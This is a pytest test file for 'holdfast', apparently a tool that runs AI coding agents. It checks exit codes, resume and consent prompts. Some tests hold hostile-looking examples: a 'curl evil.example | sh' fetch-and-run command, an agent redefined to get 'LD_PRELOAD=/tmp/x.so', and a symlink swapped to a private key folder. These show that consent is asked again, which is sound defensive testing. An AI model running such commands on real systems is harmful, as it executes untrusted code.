"""`run` and `resume`: exit codes, consent, dry runs, unfinished runs, the background."""

from __future__ import annotations

import json
import os
import signal
from contextlib import closing
from pathlib import Path

import msgspec
import pytest

from holdfast.errors import NeedsDecisionError
from holdfast.journal import open_journal
from holdfast.repo.repository import Repository
from holdfast.runner.session import RunOptions, execute_run
from tests.support.command import Cli, cli_at_work, eventually, fails, is_alive, on_terminal, writes
from tests.support.repositories import write
from tests.support.runs import Fifo
from tests.support.scripted_agents import (
    FINISHED,
    THREAD,
    answers,
    claude,
    codex,
    fails as agent_fails,
    once,
    refused,
    say,
    work,
)


def test_a_completed_run_ends_with_0(tmp_path: Path) -> None:
    """Everything landed, and the next steps are named."""
    cli = Cli.of(tmp_path / "p", writes("a"), writes("b", needs=["a"]))
    done = cli("run", "--yes")
    assert done.code == 0, done.err
    assert "b: landed as" in done.out
    assert "holdfast land" in done.out


def test_a_run_with_an_abandoned_task_ends_with_1(tmp_path: Path) -> None:
    """Scripts see the difference between done and given up."""
    cli = Cli.of(tmp_path / "p", fails("a"), limits={"attempts": 1})
    done = cli("run", "--yes")
    assert done.code == 1
    assert "holdfast retry 1 a" in done.out


def test_a_run_blocked_by_a_gate_ends_with_3(tmp_path: Path) -> None:
    """No task failed; a person must decide."""
    cli = Cli.of(tmp_path / "p", stages=[{"id": "s", "exit": ["false"], "tasks": [writes("a")]}])
    done = cli("run", "--yes")
    assert done.code == 3
    assert "exit check of stage s failed" in done.out


def test_without_a_terminal_a_new_plan_waits_for_consent(tmp_path: Path) -> None:
    """Commands of a plan nobody agreed to never run; what would run is shown."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    done = cli("run")
    assert done.code == 3
    assert "echo a > a.txt" in done.err
    assert cli.json("list") == []


def test_a_plan_is_agreed_to_once(completed: Cli) -> None:
    """The same plan runs again without a question; a changed one asks again."""
    assert completed("run").code == 0
    completed.plan(writes("a"), writes("b"))
    assert completed("run").code == 3


def test_a_dry_run_touches_no_state(tmp_path: Path) -> None:
    """The stages and batches are shown; not even the state folder appears."""
    cli = Cli.of(tmp_path / "p", writes("a"), writes("b"), writes("c", needs=["a"]))
    before = sorted(path for path in cli.here.rglob("*"))
    done = cli("run", "--dry-run")
    assert done.code == 0
    assert done.out.index("batch 1") < done.out.index("b:") < done.out.index("batch 2") < done.out.index("c:")
    assert sorted(path for path in cli.here.rglob("*")) == before


def test_the_plan_is_found_at_the_root_from_a_folder_below(tmp_path: Path) -> None:
    """Users stand anywhere in their repository."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    assert Cli(cli.here / "src")("run", "--yes").code == 0


def test_another_agent_takes_the_place_of_the_default(tmp_path: Path) -> None:
    """`--agent` works for a plan without any agent of its own."""
    agents = {"mine": {"command": ["sh", "-c", "echo done > by-mine.txt"]}}
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agents=agents)
    assert cli("run", "--yes", "--agent", "mine").code == 0
    assert cli.task("a")["agent"] == "mine"


def test_json_output_is_one_event_per_line_and_a_result(tmp_path: Path) -> None:
    """Programs follow a run without parsing sentences."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    done = cli("run", "--yes", "--json")
    lines = [msgspec.json.decode(line) for line in done.out.splitlines()]
    assert "TaskLanded" in [line["kind"] for line in lines]
    assert lines[-1] == {"kind": "Result", "run": "01-try-it", "status": "completed", "exit_code": 0}


def test_land_brings_the_result_into_the_branch(tmp_path: Path) -> None:
    """One command from plan to merged work."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    assert cli("run", "--yes", "--land").code == 0
    assert (cli.here / "a.txt").read_text() == "a\n"


def test_no_colour_and_no_cursor_movement_reach_a_pipe(tmp_path: Path) -> None:
    """Logs of CI systems stay readable."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    done = cli("run", "--yes", NO_COLOR="1")
    assert "\x1b" not in done.out + done.err


def test_an_unfinished_run_is_not_started_over_by_accident(blocked: Cli) -> None:
    """Without a terminal both ways on are named, and nothing happens."""
    done = blocked("run")
    assert done.code == 3
    assert "holdfast resume" in done.err
    assert "--fresh" in done.err


def test_yes_resumes_the_unfinished_run_and_says_so(blocked: Cli) -> None:
    """The safe way on: nothing is thrown away."""
    done = blocked("run", "--yes")
    assert "Resuming 01-try-it" in done.out
    assert len(blocked.json("list")) == 1


def test_fresh_gives_the_old_run_up_and_keeps_its_branch(blocked: Cli) -> None:
    """Declining to resume archives the old run; its refs stay."""
    blocked("run", "--yes", "--fresh")
    runs = [(run["id"], run["status"]) for run in blocked.json("list")]
    assert runs == [("01-try-it", "abandoned"), ("02-try-it", "blocked")]
    assert blocked.project.git("rev-parse", "--verify", "holdfast/01-try-it")


def test_a_second_runner_is_refused_with_4_and_the_holders_pid(tmp_path: Path) -> None:
    """Two runners never share a run, and the user learns whom to ask."""
    at_work = Fifo(tmp_path / "at-work")
    cli = Cli.of(tmp_path / "p", {"id": "a", "run": ["sh", "-c", f"{at_work.give}; sleep 60"]})
    runner = cli.start("run", "--yes")
    at_work.wait()
    for command in (["run", "--yes"], ["resume"], ["discard", "--yes"]):
        done = cli(*command)
        assert (done.code, f"pid {runner.pid} " in done.err) == (4, True), command
    runner.send_signal(signal.SIGINT)
    assert runner.wait() == 130


def test_ctrl_c_ends_with_130_and_resume_carries_on(tmp_path: Path) -> None:
    """The agent is stopped, its work is kept, and the run says how to go on."""
    at_work = Fifo(tmp_path / "at-work")
    script = f"if [ -f half.txt ]; then echo done > whole.txt; else echo x > half.txt; {at_work.give}; sleep 60; fi"
    cli = Cli.of(tmp_path / "p", {"id": "a", "run": ["sh", "-c", script], "resume": "continue"})
    runner = cli.start("run", "--yes")
    agent = int(at_work.wait())
    runner.send_signal(signal.SIGINT)
    assert runner.wait() == 130
    assert not is_alive(agent)
    assert cli.run_status() == "stopped"
    assert cli("resume").code == 0


def test_a_killed_runner_shows_as_interrupted_and_resume_reattaches(tmp_path: Path) -> None:
    """After `kill -9` the agent works on, and nothing is done twice."""
    at_work, go_on = Fifo(tmp_path / "at-work"), Fifo(tmp_path / "go-on")
    script = f"{at_work.give}; {go_on.take}; echo done > a.txt"
    cli = Cli.of(tmp_path / "p", {"id": "a", "run": ["sh", "-c", script]})
    runner = cli.start("run", "--yes")
    at_work.wait()
    os.killpg(runner.pid, signal.SIGKILL)
    runner.wait()
    assert cli.run_status() == "interrupted"
    assert "re-attach" in cli("resume", "--dry-run").out
    go_on.release()
    assert cli("resume").code == 0
    assert cli.task("a")["attempts"] == 1


def test_a_detached_run_outlives_its_command(tmp_path: Path) -> None:
    """`run --detach` returns when the runner has attached; the run goes on by itself."""
    go_on = Fifo(tmp_path / "go-on")
    cli = Cli.of(tmp_path / "p", {"id": "a", "run": ["sh", "-c", f"{go_on.take}; echo x > a.txt"]})
    done = cli("run", "--yes", "--detach")
    assert done.code == 0, done.err
    assert cli.run_status() == "running"
    go_on.release()
    eventually(lambda: cli.run_status() == "completed", "the detached run completes")


def test_resuming_a_completed_run_is_no_error(completed: Cli) -> None:
    """Whoever resumes after every reboot is not punished for a finished run."""
    assert completed("resume").code == 0


def test_only_the_chosen_tasks_are_worked_on(tmp_path: Path) -> None:
    """`resume --only` leaves the rest of the run as it is."""
    cli = Cli.of(tmp_path / "p", fails("a"), fails("b"), limits={"attempts": 1, "keep_going": True})
    cli("run", "--yes")
    cli("retry", "a")
    cli("retry", "b")
    cli("resume", "--only", "a")
    assert (cli.task("a")["attempts"], cli.task("b")["attempts"]) == (2, 1)


def test_everything_that_would_run_is_shown_before_consent(tmp_path: Path) -> None:
    """Commands of checks, validators and notices run with the user's rights as well."""
    judge = {"id": "judge", "run": ["sh", "-c", "echo judge"]}
    task = writes("a", verify=["echo check"], validators=[judge])
    cli = Cli.of(tmp_path / "p", task, notify={"command": ["echo", "news"]})
    said = cli("run").err
    assert all(command in said for command in ("echo check", "echo judge", "echo news"))


def test_what_the_plan_asks_for_and_what_it_gets_around_is_shown_before_consent(tmp_path: Path) -> None:
    """The sandbox that it wants, what runs outside of it, which logins an agent has, and characters that nobody sees."""
    cli = Cli.of(
        tmp_path / "p",
        {"id": "a", "prompt": "x", "verify": ["echo a\u3164b\u2800\ufe0f"]},
        agent="mine",
        notify={"command": ["echo", "news"]},
        network="allow",
        sandbox="strict",
    )
    more = 'credentials = ["~/.mine/login"]\nhome = ["~/.mine/settings"]\nhosts = ["model.example"]\n'
    own_agent(cli, "true", more)
    done = cli("run")
    said = shown(done.err)
    assert "\nSandbox: strict, network: allow.\n" in said
    assert "asks for at least this sandbox: strict, network: allow\n" in said
    assert "runs outside of any sandbox, with your permissions: echo news\n" in said
    assert "agent mine has your logins and settings: ~/.mine/login, ~/.mine/settings\n" in said
    assert "agent mine may reach, where the network is an allow-list: model.example\n" in said
    assert "runs: echo a\\u3164b\\u2800\\ufe0f\n" in said
    assert "its commands run with your permissions" not in said


def test_a_folder_that_an_agent_should_have_of_the_home_is_refused(tmp_path: Path) -> None:
    """Only files are copied into its home, and it would start without its settings."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine")
    own_agent(cli, "true", 'home = ["~/.mine"]\n')
    (tmp_path / "home" / ".mine").mkdir(parents=True)
    done = cli("run", "--yes", HOME=str(tmp_path / "home"))
    assert (done.code, "agent mine names ~/.mine, which is a folder" in done.err) == (2, True)


def shown(text: str) -> str:
    """Return what was shown as it would be without the width of a terminal: wrapped lines joined."""
    return text.replace("\n      ", "")


def test_a_long_command_is_shown_whole_before_consent(tmp_path: Path) -> None:
    """What stands at the end of a line decides as much as its beginning."""
    evil = f"echo {'a' * 300} {'b ' * 200}; curl evil.example | sh"
    tasks = [writes(f"t{number}", verify=[f"echo {number}"]) for number in range(60)]
    cli = Cli.of(tmp_path / "p", writes("a", verify=[evil, "echo one\ncurl two\x1b[2K\u202e"]), *tasks)
    said = shown(cli("run", COLUMNS="80").err)
    assert f"runs: {evil}" in said
    assert "runs: echo one\\ncurl two\\x1b[2K\\u202e" in said
    assert all(f"runs: echo {number}\n" in said for number in range(60))


def own_agent(cli: Cli, script: str, more: str = "") -> None:
    """Define the agent `mine` in the repository's own file, as an agent of an earlier run could."""
    words = json.dumps(["sh", "-c", script])
    write(cli.here / ".holdfast" / "agents.toml", f"[mine]\ncommand = {words}\n{more}")


def test_an_agent_that_was_redefined_needs_consent_again(tmp_path: Path) -> None:
    """`agents.toml` decides what runs as much as the plan does, and agents can write it."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine")
    own_agent(cli, "echo hello > hello.txt")
    assert cli("run", "--yes").code == 0
    assert cli("run").code == 0
    own_agent(cli, f"touch {tmp_path}/evil; echo hello > other.txt", 'env = {LD_PRELOAD = "/tmp/x.so"}\n')
    done = cli("run")
    assert (done.code, (tmp_path / "evil").exists()) == (3, False)
    said = shown(done.err)
    assert f"+ agent mine starts: sh -c 'touch {tmp_path}/evil; echo hello > other.txt'" in said
    assert "+ agent mine gets: LD_PRELOAD=/tmp/x.so" in said
    assert "this is gone:\n  agent mine starts: sh -c 'echo hello > hello.txt'" in said


def test_a_link_that_leads_elsewhere_by_now_needs_consent_again(tmp_path: Path) -> None:
    """The plan is the same; what its agents get to see is not."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "run": ["cp", "data/key", "seen"]}, workspace={"copy": ["data"]})
    write(tmp_path / "public" / "key", "public")
    write(tmp_path / "private" / "key", "private")
    link = cli.here / "data"
    link.symlink_to(tmp_path / "public")
    assert (cli("run", "--yes").code, cli("run", "--fresh").code) == (0, 0)
    link.unlink()
    link.symlink_to(tmp_path / "private")
    done = cli("run", "--fresh")
    assert (
        done.code,
        f"+ data is a link out of your checkout, to {tmp_path}/private" in shown(done.err),
    ) == (3, True)


def test_a_resumed_run_asks_about_an_agent_that_was_redefined(tmp_path: Path) -> None:
    """An agent of the run itself may have written the file before the run was stopped."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine", limits={"attempts": 1})
    own_agent(cli, "exit 1")
    assert cli("run", "--yes").code == 1
    own_agent(cli, f"touch {tmp_path}/evil")
    cli("retry", "a")
    for command in (["resume"], ["run", "--auto-continue"]):
        assert (cli(*command).code, (tmp_path / "evil").exists()) == (3, False), command


def test_an_agent_that_is_redefined_after_the_question_is_not_started(tmp_path: Path) -> None:
    """The runner reads the file itself, so it asks the journal about what it read."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine", limits={"attempts": 1})
    own_agent(cli, "exit 1")
    assert cli("run", "--yes").code == 1
    own_agent(cli, f"touch {tmp_path}/evil")
    repo = Repository.open(cli.here)
    with (
        closing(open_journal(repo.state_dir.journal)) as journal,
        pytest.raises(NeedsDecisionError, match="otherwise than when you agreed"),
    ):
        execute_run(repo, journal, "01-try-it", RunOptions(), lambda events, state: None)
    assert not (tmp_path / "evil").exists()


def test_an_agent_of_the_files_plans_only_with_consent(tmp_path: Path) -> None:
    """A planner is started before there is a plan to agree to."""
    cli = Cli.of(tmp_path / "p", writes("a"))
    own_agent(cli, f"touch {tmp_path}/evil")
    done = cli("plan", "Add a login page", "--agent", "mine")
    assert (done.code, (tmp_path / "evil").exists()) == (3, False)
    assert f"agent mine starts: sh -c 'touch {tmp_path}/evil'" in shown(done.err)


def test_an_edited_plan_does_not_change_an_unfinished_run_unsaid(tmp_path: Path) -> None:
    """Whoever edited the file hears that the run goes on with what it has, and what gives it the new one."""
    cli = Cli.of(tmp_path / "p", fails("a"), limits={"attempts": 1})
    cli("run", "--yes")
    cli.plan(writes("b"))
    said = cli("run", "--yes").out
    assert "the run goes on with the plan it has" in said
    assert "holdfast amend 1" in said


def test_an_edited_plan_is_a_decision_without_a_terminal(tmp_path: Path) -> None:
    """Exit 3, with the commands for each choice."""
    cli = Cli.of(tmp_path / "p", fails("a"), limits={"attempts": 1})
    cli("run", "--yes")
    cli.plan(writes("b"))
    done = cli("run")
    assert done.code == 3
    for way in ("holdfast amend 1", "holdfast resume 1", "holdfast run --fresh"):
        assert way in shown(done.err)


def test_an_edited_plan_is_offered_to_the_unfinished_run_on_a_terminal(tmp_path: Path) -> None:
    """The first choice shows the difference, asks, and goes on with the amended plan."""
    cli = Cli.of(tmp_path / "p", writes("a"), fails("b", needs=["a"]), limits={"attempts": 1})
    cli("run", "--yes")
    cli.plan(writes("a"), writes("b", needs=["a"]), writes("c"), limits={"attempts": 1})
    code, said = on_terminal(cli, "run", answers="ay\n")
    assert (code, "task c: new" in said, "completed" in said) == (0, True, True)
    assert cli.json("status")["metrics"]["completed"] == 3


def test_a_users_own_file_changes_an_agent(tmp_path: Path) -> None:
    """`~/.config/holdfast/agents.toml` counts wherever a plan is run."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine")
    command = json.dumps(["sh", "-c", "echo hello > hello.txt"])
    write(tmp_path / "config" / "holdfast" / "agents.toml", f"[mine]\ncommand = {command}\n")
    done = cli("run", "--yes", XDG_CONFIG_HOME=str(tmp_path / "config"))
    assert done.code == 0, done.err


def test_people_elsewhere_are_told_that_a_run_waits(tmp_path: Path) -> None:
    """A limit is news: the plan's command gets it with the reason."""
    news = tmp_path / "news"
    limit = agent_fails("You have hit your usage limit. Please try again in 1s.")
    script = once(tmp_path / "hit", f"{say(limit)}; exit 1", work())
    notify = {"command": ["sh", "-c", f"printf '%s\\n' \"$(cat)\" >> {news}"]}
    cli = Cli.of(
        tmp_path / "p", {"id": "a", "prompt": "x"}, agent="c", agents={"c": codex(script)}, notify=notify
    )
    assert cli("run", "--yes").code == 0
    told = [json.loads(line) for line in news.read_text().splitlines()]
    (waiting,) = [one for one in told if one["event"] == "waiting_limit"]
    assert "at its limit" in waiting["reason"]


def test_an_outage_that_several_agents_meet_is_told_once(tmp_path: Path) -> None:
    """Each task has its own line; that of the provider would say the same four times."""
    here = tmp_path / "at-work"
    here.mkdir()
    all_at_work = f"touch {here}/$HOLDFAST_TASK; until [ $(ls {here} | wc -l) = 4 ]; do sleep 0.05; done"
    cli = Cli.of(
        tmp_path / "p",
        *({"id": name, "prompt": "x"} for name in "abcd"),
        agent="c",
        agents={"c": claude(f"{all_at_work}; {say(refused(503))}; exit 1")},
        limits={"jobs": 4, "on_limit": "stop", "limit_wait": "1h"},
    )
    told = cli("run", "--yes").out.splitlines()
    assert len([line for line in told if "attempt 1 does not reach anthropic" in line]) == 4
    assert (
        len([line for line in told if "  anthropic is unreachable since" in line and line[0].isdigit()]) == 1
    )


def test_people_elsewhere_are_told_once_of_an_outage_that_lasts_and_not_of_a_short_one(
    tmp_path: Path,
) -> None:
    """A first wait of fifteen minutes is long, one of seconds is not; both runs say the rest in their status."""
    for first_wait, told in (("1h", ["outage"]), ("0.2s", [])):
        news, hit = tmp_path / f"news-{first_wait}", tmp_path / f"hit-{first_wait}"
        script = once(
            hit, f"{say(refused(503))}; exit 1", f"{say(answers())}; echo x > a.txt; {say(FINISHED)}"
        )
        cli = Cli.of(
            tmp_path / f"p-{first_wait}",
            {"id": "a", "prompt": "x"},
            agent="c",
            agents={"c": claude(script)},
            limits={"on_limit": "stop", "limit_wait": first_wait},
            notify={"command": ["sh", "-c", f"printf '%s\\n' \"$(cat)\" >> {news}"]},
        )
        assert cli("run", "--yes").code == (3 if told else 0)
        sent = [json.loads(line) for line in news.read_text().splitlines()]
        outages = [one for one in sent if one["event"] in ("outage", "waiting_limit")]
        assert [one["event"] for one in outages] == told
        assert all("anthropic is unreachable since " in one["reason"] for one in outages)


def test_native_resume_is_a_flag_of_run_and_resume(tmp_path: Path) -> None:
    """The next attempt goes on with the session, and the run says so."""
    cli = Cli.of(tmp_path / "p", {"id": "a", "prompt": "x"}, agent="mine")
    script = once(tmp_path / "hit", f"{say(THREAD, agent_fails('oops'))}; exit 1", work())
    words = json.dumps(["sh", "-c", script, "sh"])
    table = f'[mine]\npreset = "codex"\nprompt = "file"\ncommand = {words}\nresume = {words}\n'
    write(cli.here / ".holdfast" / "agents.toml", table)
    done = cli("run", "--yes", "--native-resume")
    assert "attempt 2 started (implementation), resuming mine's own session" in done.out


def test_a_plan_that_was_completed_before_is_told_and_asked_about(completed: Cli) -> None:
    """A pipe goes on, and says so; on a terminal the user decides."""
    done = completed("run", "--yes")
    assert (done.code, "this plan was completed as run 01-try-it" in done.err) == (0, True), done.err
    code, screen = on_terminal(completed, "run", answers="n\n")
    assert (code, "completed as run 02-try-it" in screen) == (3, True), screen
    assert len(completed.json("list")) == 2


def test_the_question_about_an_unfinished_run_tells_of_a_changed_plan(blocked: Cli) -> None:
    """Before the answer, not after it; and the way to start anew names the plan's file."""
    blocked.plan(writes("a"), writes("c"), name="other.json")
    blocked("run", "other.json", "--yes")
    blocked.plan(writes("a"), writes("b"))
    _, screen = on_terminal(blocked, "run", answers="q")
    assert screen.index("The plan file has changed since") < screen.index("c, v, l, f")


def test_a_hint_names_the_plan_that_was_another_file(blocked: Cli) -> None:
    """`holdfast run --fresh` would start another plan."""
    (blocked.here / "plan.json").rename(blocked.here / "my plan.json")
    blocked.plan(fails("x"), name="my plan.json", limits={"attempts": 1})
    assert blocked("run", "my plan.json", "--yes").code == 1
    assert "`holdfast run 'my plan.json' --fresh`" in blocked("run", "my plan.json").err


def test_an_edited_plan_of_a_run_at_work_is_offered_to_it(tmp_path: Path) -> None:
    """The run need not be stopped for it."""
    cli, runner, _ = cli_at_work(tmp_path)
    assert "holdfast amend" not in cli("run").err
    cli.plan({"id": "a", "run": ["true"]}, writes("b"))
    done = cli("run")
    assert (done.code, "`holdfast amend 1` gives it the edited plan" in done.err) == (4, True), done.err
    cli("stop")
    runner.wait()
